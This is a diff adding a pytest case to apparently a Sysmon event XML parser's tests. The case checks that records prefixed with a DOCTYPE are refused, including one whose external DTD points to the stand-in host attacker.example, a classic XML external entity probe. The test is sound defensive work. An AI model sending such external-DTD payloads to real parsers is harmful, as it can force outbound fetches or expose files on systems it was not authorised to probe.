@@ -101,6 +101,17 @@ def test_bad_records_are_rejected_with_a_reason(payload: bytes, reason: RejectRe
     assert rejected(payload) == reason
 
 
+@pytest.mark.parametrize(
+    "doctype",
+    [b'<!DOCTYPE Event SYSTEM "http://attacker.example/x.dtd">', b"<!DOCTYPE Event>"],
+    ids=["external-dtd", "bare"],
+)
+def test_a_doctype_without_entities_is_refused(doctype: bytes) -> None:
+    event = SYSMON_LINE.splitlines()[0]
+    assert parse_event(event).fields["EventID"] == "1"  # the same event parses without it
+    assert rejected(doctype + event) == RejectReason.XML_ENTITIES
+
+
 def test_oversized_records_are_rejected() -> None:
     assert rejected(SYSMON_LINE, max_bytes=100) == RejectReason.TOO_LARGE
 
